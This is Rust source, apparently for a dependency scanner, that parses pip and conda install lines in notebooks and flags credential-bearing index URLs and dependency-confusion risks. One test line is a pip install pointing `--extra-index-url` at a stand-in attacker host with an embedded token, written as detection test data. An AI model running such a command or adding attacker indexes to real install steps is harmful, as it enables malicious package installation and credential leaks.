//! Notebook shell lines: `!pip install …`, `%pip install …`, `!uv pip install …`,
//! `!python -m pip install …`, `!conda install …` (also `mamba`/`micromamba`, `%conda`).

use crate::conda::conda_dependency;
use crate::manifest::{Issue, ManifestKind, Parsed};
use crate::pep::clip;
use crate::requirements::{Pos, add_requirement};
use crate::url::{inspect, is_pypi_host};

/// Longest shell line considered.
const MAX_LINE: usize = 16 * 1024;
/// Most words per command.
const MAX_WORDS: usize = 1024;

/// pip options that take a value (the value is not a requirement).
const PIP_VALUE_OPTS: &[&str] = &[
    "-r",
    "--requirement",
    "-c",
    "--constraint",
    "-i",
    "--index-url",
    "--extra-index-url",
    "-f",
    "--find-links",
    "-t",
    "--target",
    "--prefix",
    "--root",
    "--trusted-host",
    "--python",
    "-p",
    "--upgrade-strategy",
    "--platform",
    "--python-version",
    "--implementation",
    "--abi",
    "--src",
    "--cache-dir",
    "--log",
    "--progress-bar",
    "--timeout",
    "--retries",
    "--proxy",
    "--cert",
    "--client-cert",
    "--config-settings",
    "-C",
    "--global-option",
    "--no-binary",
    "--only-binary",
    "--index-strategy",
    "--default-index",
    "--index",
    "--exists-action",
    "--report",
];

/// conda options that take a value.
const CONDA_VALUE_OPTS: &[&str] = &[
    "-c",
    "--channel",
    "-n",
    "--name",
    "-p",
    "--prefix",
    "--file",
    "--repodata-fn",
];

/// Splits a shell line into words (single/double quotes, backslash escapes); stops at a comment.
fn words(line: &str) -> Vec<Vec<String>> {
    let mut commands = vec![Vec::new()];
    let mut cur = String::new();
    let mut in_word = false;
    let mut chars = line.chars().peekable();
    let mut quote: Option<char> = None;
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), c) => cur.push(c),
            (None, '\'' | '"') => {
                quote = Some(c);
                in_word = true;
            }
            (None, '\\') => {
                if let Some(n) = chars.next() {
                    cur.push(n);
                    in_word = true;
                }
            }
            (None, '#') if !in_word => break,
            (None, ';' | '&' | '|') => {
                if in_word {
                    if let Some(last) = commands.last_mut() {
                        last.push(std::mem::take(&mut cur));
                    }
                    in_word = false;
                }
                if commands.last().is_some_and(|c| !c.is_empty()) {
                    commands.push(Vec::new());
                }
            }
            (None, c) if c.is_whitespace() => {
                if in_word {
                    if let Some(last) = commands.last_mut() {
                        last.push(std::mem::take(&mut cur));
                    }
                    in_word = false;
                }
            }
            (None, c) => {
                cur.push(c);
                in_word = true;
            }
        }
        if commands.last().is_some_and(|c| c.len() > MAX_WORDS) {
            break;
        }
    }
    if in_word && let Some(last) = commands.last_mut() {
        last.push(cur);
    }
    commands
}

/// Adds the dependencies and issues of one notebook line (1-based `line`) to `out`.
pub(crate) fn shell_line(line: u32, text: &str, out: &mut Parsed) {
    let t = text.trim_start();
    let Some(body) = t.strip_prefix('!').or_else(|| t.strip_prefix('%')) else {
        return;
    };
    if body.len() > MAX_LINE {
        return;
    }
    for cmd in words(body) {
        let w: Vec<&str> = cmd.iter().map(String::as_str).collect();
        let rest = match w.as_slice() {
            ["pip" | "pip3", "install", rest @ ..]
            | ["uv", "pip", "install", rest @ ..]
            | ["python" | "python3", "-m", "pip", "install", rest @ ..]
            | ["sudo", "pip" | "pip3", "install", rest @ ..] => (rest, false),
            ["conda" | "mamba" | "micromamba", "install", rest @ ..] => (rest, true),
            _ => continue,
        };
        if rest.1 {
            conda_args(rest.0, line, out);
        } else {
            pip_args(rest.0, line, out);
        }
    }
}

fn pos(line: u32) -> Pos<'static> {
    Pos {
        line,
        offset: None,
        file: None,
        dir: None,
        depth: 0,
        kind: ManifestKind::Shell,
    }
}

fn pip_args(args: &[&str], line: u32, out: &mut Parsed) {
    let mut i = 0usize;
    while let Some(&arg) = args.get(i) {
        i = i.saturating_add(1);
        if arg.starts_with('-') {
            let (name, inline) = match arg.split_once('=') {
                Some((n, v)) if n.starts_with("--") => (n, Some(v)),
                _ => (arg, None),
            };
            if !PIP_VALUE_OPTS.contains(&name) && name != "-e" && name != "--editable" {
                continue;
            }
            let value = if let Some(v) = inline {
                v
            } else {
                let v = args.get(i).copied().unwrap_or("");
                i = i.saturating_add(1);
                v
            };
            match name {
                "-e" | "--editable" => add_requirement(value, 0, pos(line), out),
                "-i" | "--index-url" | "--extra-index-url" | "-f" | "--find-links" | "--index"
                | "--default-index" => {
                    index_url(name, value, line, out);
                }
                _ => {}
            }
            continue;
        }
        if arg.contains(['{', '$']) {
            continue; // interpolated by IPython / the shell: unknown at scan time
        }
        add_requirement(arg, 0, pos(line), out);
    }
}

fn index_url(name: &str, url: &str, line: u32, out: &mut Parsed) {
    let facts = inspect(url);
    if facts.credentials {
        out.issues.push(
            Issue::new(
                "dep-index-credentials",
                format!("`{name}` URL embeds credentials"),
                line,
            )
            .with("url", facts.redacted.clone()),
        );
    }
    if matches!(name, "--extra-index-url" | "--index") && !is_pypi_host(facts.host.as_deref()) {
        out.issues.push(
            Issue::new(
                "dep-extra-index-url",
                format!("`{name}` adds a second index: a public package can shadow a private one (dependency confusion)"),
                line,
            )
            .with("url", facts.redacted),
        );
    }
}

fn conda_args(args: &[&str], line: u32, out: &mut Parsed) {
    let mut i = 0usize;
    while let Some(&arg) = args.get(i) {
        i = i.saturating_add(1);
        if arg.starts_with('-') {
            let name = arg.split_once('=').map_or(arg, |(n, _)| n);
            if CONDA_VALUE_OPTS.contains(&name) && !arg.contains('=') {
                if matches!(name, "-c" | "--channel") {
                    let facts = inspect(args.get(i).copied().unwrap_or(""));
                    if facts.credentials {
                        out.issues.push(
                            Issue::new(
                                "dep-index-credentials",
                                "conda channel URL embeds credentials",
                                line,
                            )
                            .with("url", facts.redacted),
                        );
                    }
                }
                i = i.saturating_add(1);
            }
            continue;
        }
        if arg.contains(['{', '$']) {
            continue;
        }
        match conda_dependency(arg, line, ManifestKind::Shell) {
            Ok(dep) => out.dependencies.push(dep),
            Err(e) => out
                .issues
                .push(Issue::new("dep-manifest-malformed", clip(&e), line)),
        }
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn run(line: &str) -> Parsed {
        let mut out = Parsed::new(ManifestKind::Shell);
        shell_line(7, line, &mut out);
        out
    }

    #[test]
    fn pip_forms() {
        for l in [
            "!pip install -q torch==2.5.1 'transformers>=4.0'",
            "%pip install --upgrade torch==2.5.1 \"transformers>=4.0\"",
            "!uv pip install torch==2.5.1 transformers>=4.0 # comment",
            "!python -m pip install -U torch==2.5.1 transformers>=4.0 && echo done",
        ] {
            let p = run(l);
            let names: Vec<_> = p
                .dependencies
                .iter()
                .map(|d| d.normalized_name.as_str())
                .collect();
            assert_eq!(names, ["torch", "transformers"], "{l}");
            assert_eq!(p.dependencies[0].version.as_deref(), Some("2.5.1"));
            assert_eq!(p.dependencies[0].source_line, 7);
        }
    }

    #[test]
    fn options_and_conda() {
        let p = run(
            "!pip install -r requirements.txt --extra-index-url https://tok@evil.example/simple mypkg",
        );
        assert_eq!(p.dependencies.len(), 1);
        let rules: Vec<_> = p.issues.iter().map(|i| i.rule).collect();
        assert_eq!(rules, ["dep-index-credentials", "dep-extra-index-url"]);
        let c = run("!conda install -y -c pytorch pytorch=2.1.0=py3.10_0 cudatoolkit=11.8");
        assert_eq!(c.dependencies.len(), 2);
        assert_eq!(c.dependencies[0].normalized_name, "torch");
        assert!(run("!ls -la").dependencies.is_empty());
        assert!(
            run("pip install torch").dependencies.is_empty(),
            "not a shell line"
        );
        assert!(run("!pip install {pkg}").dependencies.is_empty());
    }
}
